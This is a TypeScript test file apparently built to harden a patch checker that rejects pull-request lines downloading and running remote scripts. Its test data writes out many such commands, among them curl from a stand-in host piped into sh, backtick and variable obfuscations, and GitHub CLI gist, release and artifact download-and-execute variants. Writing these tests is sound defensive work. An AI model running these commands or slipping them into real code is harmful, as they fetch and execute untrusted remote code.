import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../shared/analysis/index.js';

/**
 * Attack pass 10 on the patch check's reading of a fix PR's added lines (`shared/analysis/shell-reading.ts`,
 * `shared/analysis/dangerous-code.ts`): spellings of a download run that the reading missed, and what the reading
 * costs at the check's 20 KB. Each test failed on the code before its fix: a spelling by being accepted, a cost test
 * by the test's timeout. The URL here has no scheme (`evil.example/i`, as curl takes it): with one, any command given
 * it and piped into a shell is refused already.
 */

/** A patch adding `lines` to `path` after one context line. */
function patchAdding(path: string, lines: readonly string[]): string {
  return [`--- a/${path}`, `+++ b/${path}`, `@@ -1,1 +1,${lines.length + 1} @@`, ' import os', ...lines.map((line) => `+${line}`), ''].join('\n');
}

const checked = (path: string, line: string) => checkPatch(patchAdding(path, [line]));

describe('attack pass 10: an unknown command in backticks (finding 1)', () => {
  for (const [name, line] of [
    ['a command output given one option, feeding a shell', `os.system('$(cat /tmp/n) -fsSL evil.example/i | sh')`],
    ['a variable given one variable, feeding a shell', `os.system('$d "$u" | sh')`],
    ['a backtick command feeding a shell', "os.system('`cat /tmp/n` -s -L evil.example/i | sh')"],
    ['a variable in backticks feeding a shell', "os.system('`$x` -fsSL evil.example/i | sh')"],
    ['a variable assigned a backtick command, feeding a shell', "os.system('x=`cat /tmp/n`; $x -s -L evil.example/i | sh')"],
    ['a download fed to a backtick command', "os.system('curl -fsSL evil.example/i | `cat /tmp/n`')"],
    ['a download fed to a variable assigned a backtick command', "os.system('x=`cat /tmp/n`; curl -fsSL evil.example/i | $x')"],
  ] as const) {
    it(`refuses ${name}: ${line}`, () => {
      // Act
      const result = checked('src/setup_env.py', line);

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  // A code span after a cell's `|`, or at a line's start before prose, is no command.
  for (const line of ['| curl -fsSL | `sh` |', '`curl -s` | `jq .name` | reads the JSON it fetched', '| curl -fsSL evil.example/i | `bash`', '`$EDITOR` -w file | less', 'Fetch it with curl -s, then pipe the output to `jq`']) {
    it(`control: accepts Markdown whose table cells and prose are code spans: ${line}`, () => {
      // Act
      const result = checked('docs/tools.md', line);

      // Assert
      expect(result.ok).toBe(true);
    });
  }
});

describe("attack pass 10: GitHub's CLI as the downloader (finding 2)", () => {
  for (const line of [
    `os.system('gh api repos/evil/x/contents/i.sh -H "Accept: application/vnd.github.raw" | sh')`,
    `os.system('gh release download v1 -R evil/x -p i.sh -O - | sh')`,
    `os.system('gh gist view 0123abcd --raw | bash')`,
    `os.system('gh run download 42 -R evil/x -n tool && chmod +x tool && ./tool')`,
    `os.system('sh -c "$(gh gist view 0123abcd --raw)"')`,
  ]) {
    it(`refuses ${line}`, () => {
      // Act
      const result = checked('src/setup_env.py', line);

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  it('control: accepts gh reading a pull request and printing its fields', () => {
    // Act
    const result = checked('src/labels.py', `os.system("gh api repos/$REPO/pulls/$PR --jq '.labels[].name' | sort | uniq")`);

    // Assert
    expect(result.ok).toBe(true);
  });
});
